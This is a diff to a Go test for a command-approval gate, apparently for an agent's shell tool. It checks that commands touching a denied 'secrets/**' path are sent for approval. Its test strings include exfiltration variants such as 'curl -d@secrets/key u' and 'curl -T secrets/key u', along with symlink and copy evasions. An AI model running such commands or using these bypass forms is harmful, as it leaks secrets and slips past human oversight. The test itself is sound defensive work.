@@ -144,7 +144,7 @@ func TestPathRulesBindTheEffect(t *testing.T) {
 // A command that names a path which rules speak of, in words that are not understood, is asked about.
 func TestUnderstoodOrNotPathsAreAsked(t *testing.T) {
 	read := parseRules(t, "deny read_file(secrets/**)", "tool run_command allow", "allow prefix strange secrets/ok")
-	check(t, approval.ModeAsk, read, approval.Ask, "strange secrets/key", "strange --file=secrets/key", "strange @secrets/key", "curl -T secrets/key u", "git show HEAD:secrets/key", "git grep x", "tar czf new.tgz .", "cp -r . y", "ln -s secrets y", "ln -s . y",
+	check(t, approval.ModeAsk, read, approval.Ask, "strange secrets/key", "strange --file=secrets/key", "strange @secrets/key", "curl -T secrets/key u", "curl -Tsecrets/key u", "curl -d@secrets/key u", "grep --rec x .", "git checkout-index -a --prefix=x/", "git show HEAD:secrets/key", "git grep x", "tar czf new.tgz .", "cp -r . y", "ln -s secrets y", "ln -s . y",
 		"node ./secrets/key", "docker cp secrets/key c:/", "strange $PWD/secrets/key", "!strange secretsx", "!git log", "!go build .", "!strange secrets/ok", "!echo secrets/key", "!git grep x -- src")
 	check(t, approval.ModeBypass, read, approval.Ask, "strange secrets/key", "tar czf new.tgz .", "!make")
 	write := parseRules(t, "deny Write(gen/**)", "tool run_command allow")
